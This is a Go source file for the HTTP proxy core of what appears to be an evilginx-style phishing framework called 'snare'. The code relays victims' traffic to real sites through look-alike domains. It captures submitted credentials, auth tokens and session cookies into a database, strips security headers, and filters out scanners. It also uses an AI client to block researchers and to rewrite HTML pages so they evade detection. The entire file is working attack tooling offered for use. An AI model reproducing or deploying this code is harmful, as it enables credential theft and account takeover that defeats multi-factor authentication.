package core

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/elazarl/goproxy"
	"github.com/go-acme/lego/v3/challenge/tlsalpn01"
	"github.com/inconshreveable/go-vhost"
	http_dialer "github.com/mwitkow/go-http-dialer"
	"golang.org/x/net/proxy"

	"github.com/snarelabs/snare/database/storage"
	"github.com/snarelabs/snare/log"
)

const (
	httpReadTimeout  = 45 * time.Second
	httpWriteTimeout = 45 * time.Second

	upstreamRetryDelay = 500 * time.Millisecond
	dbWriteTimeout     = 5 * time.Second
)

// activeCampaign is a campaign compiled for serving: the phishlet bound to
// its phishing hostname, with the rewriter and extractor built at
// activation time.
type activeCampaign struct {
	campaign *Campaign
	pl       *Phishlet
	rw       *Rewriter
	ex       *Extractor
}

// HttpProxy is the victim-facing dispatcher. It terminates TLS for phishing
// hostnames, rewrites traffic in both directions and feeds the session
// tracker. Routing fails closed: hosts that map to no active campaign get a
// bare not-found with no diagnostics.
type HttpProxy struct {
	Server      *http.Server
	Proxy       *goproxy.ProxyHttpServer
	crt_db      *CertDb
	cfg         *Config
	db          storage.Storage
	bl          *Blacklist
	ai          *AIClient
	tracker     *SessionTracker
	sniListener net.Listener
	stop        chan struct{}
	stopOnce    sync.Once
	cookieName  string
	developer   bool

	active  map[string]*activeCampaign
	act_mtx sync.RWMutex
}

type proxyState struct {
	SessionId string
	Created   bool
	Phishlet  string
	ac        *activeCampaign
}

func NewHttpProxy(hostname string, port int, cfg *Config, crt_db *CertDb, db storage.Storage, bl *Blacklist, ai *AIClient, tracker *SessionTracker, developer bool) (*HttpProxy, error) {
	p := &HttpProxy{
		Proxy:      goproxy.NewProxyHttpServer(),
		Server:     nil,
		crt_db:     crt_db,
		cfg:        cfg,
		db:         db,
		bl:         bl,
		ai:         ai,
		tracker:    tracker,
		stop:       make(chan struct{}),
		developer:  developer,
		cookieName: strings.ToLower(GenRandomString(8)),
		active:     make(map[string]*activeCampaign),
	}

	p.Server = &http.Server{
		Addr:         fmt.Sprintf("%s:%d", hostname, port),
		Handler:      p.Proxy,
		ReadTimeout:  httpReadTimeout,
		WriteTimeout: httpWriteTimeout,
	}

	if cfg.proxyConfig.Enabled {
		err := p.setProxy(true, cfg.proxyConfig.Type, cfg.proxyConfig.Address, cfg.proxyConfig.Port, cfg.proxyConfig.Username, cfg.proxyConfig.Password)
		if err != nil {
			log.Error("proxy: %v", err)
		} else {
			log.Info("enabled upstream proxy: %s:%d", cfg.proxyConfig.Address, cfg.proxyConfig.Port)
		}
	}

	p.Proxy.Verbose = false

	p.Proxy.NonproxyHandler = http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		req.URL.Scheme = "https"
		req.URL.Host = req.Host
		p.Proxy.ServeHTTP(w, req)
	})

	p.Proxy.OnRequest().HandleConnect(goproxy.AlwaysMitm)

	p.Proxy.OnRequest().
		DoFunc(func(req *http.Request, ctx *goproxy.ProxyCtx) (*http.Request, *http.Response) {
			ps := &proxyState{}
			ctx.UserData = ps

			from_ip := strings.SplitN(req.RemoteAddr, ":", 2)[0]
			for _, h := range []string{"X-Forwarded-For", "X-Real-IP", "X-Client-IP", "True-Client-IP"} {
				if origin_ip := req.Header.Get(h); origin_ip != "" {
					from_ip = strings.SplitN(origin_ip, ":", 2)[0]
					break
				}
			}

			if p.cfg.GetBlacklistMode() != "off" && p.bl.IsBlacklisted(from_ip) {
				log.Warning("blacklist: request from ip address '%s' was blocked", from_ip)
				return p.blockRequest(req)
			}

			req_hostname := strings.ToLower(req.Host)
			ac := p.getActiveByPhishHost(req_hostname)
			if ac == nil {
				log.Debug("hostname not routed: %s", req_hostname)
				return p.blockRequest(req)
			}
			ps.Phishlet = ac.pl.Name
			ps.ac = ac

			if p.ai != nil {
				md := &RequestMetadata{
					IP:        from_ip,
					UserAgent: req.Header.Get("User-Agent"),
					Host:      req_hostname,
					Path:      req.URL.Path,
					Method:    req.Method,
				}
				if p.ai.ShouldBlock(req.Context(), md) {
					if err := p.bl.AddIP(from_ip); err != nil {
						log.Error("blacklist: %s", err)
					}
					return p.blockRequest(req)
				}
			}

			// correlate the session from the tracking cookie
			cookie_name := getSessionCookieName(ac.pl.Name, p.cookieName)
			tracking_key := ""
			if ck, err := req.Cookie(cookie_name); err == nil {
				tracking_key = ck.Value
			}

			landing_host := combineHost(ac.pl.LandingHost().PhishSub, ac.rw.PhishDomain())
			if tracking_key != "" || req_hostname == landing_host {
				s, created := p.tracker.Correlate(from_ip, tracking_key, ac.pl.Name)
				ps.SessionId = s.Id
				ps.Created = created
				if created {
					s.UserAgent = req.Header.Get("User-Agent")
					s.LandingURL = "https://" + req_hostname + req.URL.Path
					log.Important("[%s] new visitor: %s (%s)", ac.pl.Name, from_ip, truncateString(s.UserAgent, 48))
					p.persistNewSession(s)
				}
			} else if p.cfg.GetBlacklistMode() == "all" {
				if err := p.bl.AddIP(from_ip); err != nil {
					log.Error("blacklist: %s", err)
				}
				return p.blockRequest(req)
			}

			// strip the tracking cookie before the request leaves the proxy
			p.deleteRequestCookie(req, cookie_name)

			// replace "Host" header
			if r_host, ok := ac.rw.PhishToOrig(req_hostname); ok {
				req.Host = r_host
				req.URL.Host = r_host
			}
			req.URL.Scheme = "https"

			// fix origin
			if origin := req.Header.Get("Origin"); origin != "" {
				if o_url, err := url.Parse(origin); err == nil {
					if r_host, ok := ac.rw.PhishToOrig(o_url.Host); ok {
						o_url.Host = r_host
						req.Header.Set("Origin", o_url.String())
					}
				}
			}

			// fix referer
			if referer := req.Header.Get("Referer"); referer != "" {
				if o_url, err := url.Parse(referer); err == nil {
					if r_host, ok := ac.rw.PhishToOrig(o_url.Host); ok {
						o_url.Host = r_host
						req.Header.Set("Referer", o_url.String())
					}
				}
			}

			// response bodies must come back uncompressed for rewriting
			req.Header.Set("Accept-Encoding", "identity")
			req.Header.Set("Cache-Control", "no-cache")

			// patch query params with original domains
			if qs := req.URL.Query(); len(qs) > 0 {
				for gp := range qs {
					for i, v := range qs[gp] {
						qs[gp][i] = string(ac.rw.PatchToOrig([]byte(v)))
					}
				}
				req.URL.RawQuery = qs.Encode()
			}

			// capture credentials and patch the body
			if req.Body != nil && (req.Method == "POST" || req.Method == "PUT" || req.Method == "PATCH") {
				body, err := io.ReadAll(req.Body)
				req.Body.Close()
				if err == nil {
					if ps.SessionId != "" {
						creds := ac.ex.ExtractCredentials(req, body)
						if len(creds) > 0 {
							for k := range creds {
								log.Success("[%s] credential '%s' captured from %s", ac.pl.Name, k, from_ip)
							}
							if p.tracker.Record(ps.SessionId, ac.pl, creds, nil, nil) {
								p.persistSession(ps.SessionId)
							}
						}
					}
					body = ac.rw.PatchToOrig(body)
					req.ContentLength = int64(len(body))
					req.Body = io.NopCloser(bytes.NewReader(body))
					req.GetBody = func() (io.ReadCloser, error) {
						return io.NopCloser(bytes.NewReader(body)), nil
					}
				}
			}

			ctx.RoundTripper = goproxy.RoundTripperFunc(p.retryRoundTrip)

			return req, nil
		})

	p.Proxy.OnResponse().
		DoFunc(func(resp *http.Response, ctx *goproxy.ProxyCtx) *http.Response {
			ps, _ := ctx.UserData.(*proxyState)
			if resp == nil {
				if ps != nil && ps.ac != nil {
					log.Error("[%s] upstream unreachable: %s", ps.Phishlet, ctx.Req.Host)
				}
				return p.genericError(ctx.Req)
			}
			if ps == nil || ps.ac == nil {
				return resp
			}
			ac := ps.ac

			req_hostname := strings.ToLower(resp.Request.Host)

			// issue the tracking cookie for a fresh session
			var track_ck *http.Cookie
			if ps.SessionId != "" && ps.Created {
				track_ck = &http.Cookie{
					Name:    getSessionCookieName(ac.pl.Name, p.cookieName),
					Value:   ps.SessionId,
					Path:    "/",
					Domain:  ac.rw.PhishDomain(),
					Expires: time.Now().Add(60 * time.Minute),
				}
			}

			// re-point CORS at the phishing origin
			allow_origin := resp.Header.Get("Access-Control-Allow-Origin")
			if allow_origin != "" && allow_origin != "*" {
				if u, err := url.Parse(allow_origin); err == nil {
					if o_host, ok := ac.rw.OrigToPhish(u.Host); ok {
						resp.Header.Set("Access-Control-Allow-Origin", u.Scheme+"://"+o_host)
					}
				}
				resp.Header.Set("Access-Control-Allow-Credentials", "true")
			}

			for _, hdr := range []string{
				"Content-Security-Policy",
				"Content-Security-Policy-Report-Only",
				"Strict-Transport-Security",
				"X-XSS-Protection",
				"X-Content-Type-Options",
				"X-Frame-Options",
			} {
				resp.Header.Del(hdr)
			}
			resp.Header.Set("Referrer-Policy", "no-referrer")

			// redirects must land back on the phishing domain
			if r_url, err := resp.Location(); err == nil {
				if r_host, ok := ac.rw.OrigToPhish(r_url.Host); ok {
					r_url.Host = r_host
					resp.Header.Set("Location", r_url.String())
				}
			}

			// capture auth tokens before cookie domains get re-pointed
			if ps.SessionId != "" {
				tokens, captured := ac.ex.ExtractTokens(resp, req_hostname)
				if len(tokens) > 0 || len(captured) > 0 {
					if p.tracker.Record(ps.SessionId, ac.pl, nil, tokens, captured) {
						p.persistSession(ps.SessionId)
					}
				}
			}

			// re-point cookies at the phishing domain
			cookies := resp.Cookies()
			resp.Header.Del("Set-Cookie")
			for _, ck := range cookies {
				if ck.Secure {
					ck.SameSite = http.SameSiteNoneMode
				}
				if ck.Domain != "" {
					if c_domain, ok := ac.rw.OrigToPhish(ck.Domain); ok {
						ck.Domain = c_domain
					}
				}
				resp.Header.Add("Set-Cookie", ck.String())
			}
			if track_ck != nil {
				resp.Header.Add("Set-Cookie", track_ck.String())
			}

			// rewrite the body
			mime := strings.Split(resp.Header.Get("Content-Type"), ";")[0]
			body, err := io.ReadAll(resp.Body)
			resp.Body.Close()
			if err != nil {
				return p.genericError(ctx.Req)
			}
			body = ac.rw.RewriteResponseBody(req_hostname, mime, body)

			if p.ai != nil && mime == "text/html" {
				body, _ = p.ai.Modify(resp.Request.Context(), body, ac.pl.Name, p.cfg.GetAIConfig().EvasionType)
			}

			resp.Header.Set("Content-Length", strconv.Itoa(len(body)))
			resp.ContentLength = int64(len(body))
			resp.Body = io.NopCloser(bytes.NewReader(body))
			return resp
		})

	goproxy.OkConnect = &goproxy.ConnectAction{Action: goproxy.ConnectAccept, TLSConfig: p.TLSConfigFromCA()}
	goproxy.MitmConnect = &goproxy.ConnectAction{Action: goproxy.ConnectMitm, TLSConfig: p.TLSConfigFromCA()}
	goproxy.HTTPMitmConnect = &goproxy.ConnectAction{Action: goproxy.ConnectHTTPMitm, TLSConfig: p.TLSConfigFromCA()}
	goproxy.RejectConnect = &goproxy.ConnectAction{Action: goproxy.ConnectReject, TLSConfig: p.TLSConfigFromCA()}

	return p, nil
}

// retryRoundTrip forwards the request upstream, retrying once after a short
// delay when the first attempt fails outright.
func (p *HttpProxy) retryRoundTrip(req *http.Request, ctx *goproxy.ProxyCtx) (*http.Response, error) {
	resp, err := ctx.Proxy.Tr.RoundTrip(req)
	if err == nil {
		return resp, nil
	}
	log.Debug("upstream round trip failed, retrying: %v", err)
	if req.GetBody != nil {
		body, berr := req.GetBody()
		if berr != nil {
			return nil, err
		}
		req.Body = body
	} else if req.Body != nil {
		// body already consumed and not replayable
		return nil, err
	}
	time.Sleep(upstreamRetryDelay)
	return ctx.Proxy.Tr.RoundTrip(req)
}

// ActivateCampaign compiles the campaign's phishlet against its hostname
// and makes it routable. Sub filter compilation errors abort activation.
func (p *HttpProxy) ActivateCampaign(cm *Campaign) error {
	pl, err := p.cfg.GetPhishlet(cm.Phishlet)
	if err != nil {
		return err
	}
	rw, err := NewRewriter(pl, cm.Hostname)
	if err != nil {
		return err
	}
	p.act_mtx.Lock()
	p.active[cm.Id] = &activeCampaign{
		campaign: cm,
		pl:       pl,
		rw:       rw,
		ex:       NewExtractor(pl),
	}
	p.act_mtx.Unlock()
	log.Info("campaign '%s' routing enabled for %d host(s)", cm.Id, len(pl.ProxyHosts()))
	return nil
}

func (p *HttpProxy) DeactivateCampaign(id string) {
	p.act_mtx.Lock()
	delete(p.active, id)
	p.act_mtx.Unlock()
}

func (p *HttpProxy) getActiveByPhishHost(hostname string) *activeCampaign {
	p.act_mtx.RLock()
	defer p.act_mtx.RUnlock()
	for _, ac := range p.active {
		if _, ok := ac.rw.PhishToOrig(hostname); ok {
			return ac
		}
	}
	return nil
}

func (p *HttpProxy) IsActiveHostname(hostname string) bool {
	return p.getActiveByPhishHost(strings.ToLower(hostname)) != nil
}

// ActiveHostnames lists every routable phishing hostname, for certificate
// provisioning.
func (p *HttpProxy) ActiveHostnames() []string {
	p.act_mtx.RLock()
	defer p.act_mtx.RUnlock()
	var out []string
	for _, ac := range p.active {
		for _, ph := range ac.pl.ProxyHosts() {
			out = append(out, combineHost(ph.PhishSub, ac.rw.PhishDomain()))
		}
	}
	return out
}

func (p *HttpProxy) persistNewSession(s *Session) {
	ctx, cancel := context.WithTimeout(context.Background(), dbWriteTimeout)
	defer cancel()
	if err := p.db.CreateSession(ctx, s.Id, s.Phishlet, s.LandingURL, s.UserAgent, s.RemoteAddr); err != nil {
		log.Error("database: %v", err)
	}
}

// persistSession writes the session's captured state through to storage.
func (p *HttpProxy) persistSession(sid string) {
	s := p.tracker.Get(sid)
	if s == nil {
		return
	}
	rec := s.Export()

	ctx, cancel := context.WithTimeout(context.Background(), dbWriteTimeout)
	defer cancel()
	if len(rec.Credentials) > 0 {
		if err := p.db.UpdateCredentials(ctx, sid, rec.Credentials); err != nil {
			log.Error("database: %v", err)
		}
	}
	if len(rec.Tokens) > 0 {
		if err := p.db.UpdateTokens(ctx, sid, rec.Tokens); err != nil {
			log.Error("database: %v", err)
		}
	}
	if len(rec.CookieTokens) > 0 {
		if err := p.db.UpdateCookieTokens(ctx, sid, rec.CookieTokens); err != nil {
			log.Error("database: %v", err)
		}
	}
	if err := p.db.UpdateStatus(ctx, sid, rec.Status); err != nil {
		log.Error("database: %v", err)
	}
}

func (p *HttpProxy) deleteRequestCookie(req *http.Request, name string) {
	cookies := req.Cookies()
	req.Header.Del("Cookie")
	var parts []string
	for _, ck := range cookies {
		if ck.Name == name {
			continue
		}
		parts = append(parts, ck.Name+"="+ck.Value)
	}
	if len(parts) > 0 {
		req.Header.Set("Cookie", strings.Join(parts, "; "))
	}
}

// blockRequest rejects a request without leaking why. Victims and scanners
// see the same bare not-found.
func (p *HttpProxy) blockRequest(req *http.Request) (*http.Request, *http.Response) {
	resp := goproxy.NewResponse(req, "text/html", http.StatusNotFound, "")
	if resp != nil {
		return req, resp
	}
	return req, nil
}

func (p *HttpProxy) genericError(req *http.Request) *http.Response {
	return goproxy.NewResponse(req, "text/html", http.StatusBadGateway, "")
}

func (p *HttpProxy) TLSConfigFromCA() func(host string, ctx *goproxy.ProxyCtx) (*tls.Config, error) {
	return func(host string, ctx *goproxy.ProxyCtx) (*tls.Config, error) {
		parts := strings.SplitN(host, ":", 2)
		hostname := parts[0]
		port := 443
		if len(parts) == 2 {
			port, _ = strconv.Atoi(parts[1])
		}

		if !p.developer {
			return &tls.Config{
				GetCertificate: p.crt_db.GetCertificate,
				NextProtos:     []string{"http/1.1", tlsalpn01.ACMETLS1Protocol},
			}, nil
		}
		cert, err := p.crt_db.getSelfSignedCertificate(hostname, port)
		if err != nil {
			log.Error("http_proxy: %s", err)
			return nil, err
		}
		return &tls.Config{
			InsecureSkipVerify: true,
			Certificates:       []tls.Certificate{*cert},
		}, nil
	}
}

func (p *HttpProxy) httpsWorker() {
	for {
		c, err := p.sniListener.Accept()
		if err != nil {
			select {
			case <-p.stop:
				return
			default:
			}
			log.Error("error accepting connection: %s", err)
			continue
		}

		go func(c net.Conn) {
			now := time.Now()
			c.SetReadDeadline(now.Add(httpReadTimeout))
			c.SetWriteDeadline(now.Add(httpWriteTimeout))

			tlsConn, err := vhost.TLS(c)
			if err != nil {
				return
			}

			hostname := tlsConn.Host()
			if hostname == "" {
				return
			}
			if !p.IsActiveHostname(hostname) {
				log.Debug("hostname unsupported: %s", hostname)
				return
			}

			req := &http.Request{
				Method: "CONNECT",
				URL: &url.URL{
					Opaque: hostname,
					Host:   net.JoinHostPort(hostname, "443"),
				},
				Host:       hostname,
				Header:     make(http.Header),
				RemoteAddr: c.RemoteAddr().String(),
			}
			resp := dumbResponseWriter{tlsConn}
			p.Proxy.ServeHTTP(resp, req)
		}(c)
	}
}

func (p *HttpProxy) Start() error {
	var err error
	p.sniListener, err = net.Listen("tcp", p.Server.Addr)
	if err != nil {
		return err
	}
	go p.httpsWorker()
	return nil
}

func (p *HttpProxy) Stop() {
	p.stopOnce.Do(func() {
		close(p.stop)
	})
	if p.sniListener != nil {
		p.sniListener.Close()
	}
}

func (p *HttpProxy) setProxy(enabled bool, ptype string, address string, port int, username string, password string) error {
	if enabled {
		ptypes := []string{"http", "https", "socks5", "socks5h"}
		if !stringExists(ptype, ptypes) {
			return fmt.Errorf("invalid proxy type selected")
		}
		if len(address) == 0 {
			return fmt.Errorf("proxy address can't be empty")
		}
		if port == 0 {
			return fmt.Errorf("proxy port can't be 0")
		}

		u := url.URL{
			Scheme: ptype,
			Host:   address + ":" + strconv.Itoa(port),
		}

		if strings.HasPrefix(ptype, "http") {
			var dproxy *http_dialer.HttpTunnel
			if username != "" {
				dproxy = http_dialer.New(&u, http_dialer.WithProxyAuth(http_dialer.AuthBasic(username, password)))
			} else {
				dproxy = http_dialer.New(&u)
			}
			p.Proxy.Tr.Dial = dproxy.Dial
		} else {
			if username != "" {
				u.User = url.UserPassword(username, password)
			}

			dproxy, err := proxy.FromURL(&u, nil)
			if err != nil {
				return err
			}
			p.Proxy.Tr.Dial = dproxy.Dial
		}
	} else {
		p.Proxy.Tr.Dial = nil
	}
	return nil
}

func getSessionCookieName(pl_name string, cookie_name string) string {
	hash := sha256.Sum256([]byte(pl_name + "-" + cookie_name))
	s_hash := fmt.Sprintf("%x", hash[:5])
	length := 6 + int(hash[0]%5)
	return s_hash[:length]
}

type dumbResponseWriter struct {
	net.Conn
}

func (dumb dumbResponseWriter) Header() http.Header {
	panic("Header() should not be called on this ResponseWriter")
}

func (dumb dumbResponseWriter) Write(buf []byte) (int, error) {
	if bytes.Equal(buf, []byte("HTTP/1.0 200 OK\r\n\r\n")) {
		return len(buf), nil // throw away the HTTP OK response from the faux CONNECT request
	}
	return dumb.Conn.Write(buf)
}

func (dumb dumbResponseWriter) WriteHeader(code int) {
	panic("WriteHeader() should not be called on this ResponseWriter")
}

func (dumb dumbResponseWriter) Hijack() (net.Conn, *bufio.ReadWriter, error) {
	return dumb, bufio.NewReadWriter(bufio.NewReader(dumb), bufio.NewWriter(dumb)), nil
}
